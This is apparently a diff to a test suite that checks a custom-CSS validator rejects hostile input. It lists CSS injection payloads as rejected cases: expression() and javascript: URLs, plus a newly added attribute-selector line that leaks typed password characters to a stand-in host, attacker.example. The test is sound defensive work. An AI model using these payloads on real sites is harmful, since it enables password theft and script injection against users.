@@ -188,6 +188,9 @@ describe('documents the schema or the CSS rule refuses', () => {
     ['body { width: expression(alert(1)) }', 'INVALID_CSS'],
     ['body { background: url(javascript:alert(1)) }', 'INVALID_CSS'],
     ['body { background: url(\\6a avascript:alert(1)) }', 'INVALID_CSS'],
+    // Issue 13: the selector that read a typed password one character at a time.
+    ['input[type=password][value$="a"]{background:url(https://attacker.example/a)}', 'INVALID_CSS'],
+    ['.logo { background: url(https://attacker.example/a) }', 'INVALID_CSS'],
     [`a{}${' '.repeat(50_000)}`, 'VALIDATION_FAILED'],
   ])('refuses custom CSS %#', async (customCss, error) => {
     const live = await liveOf(appB.id, { token: ownerToken });
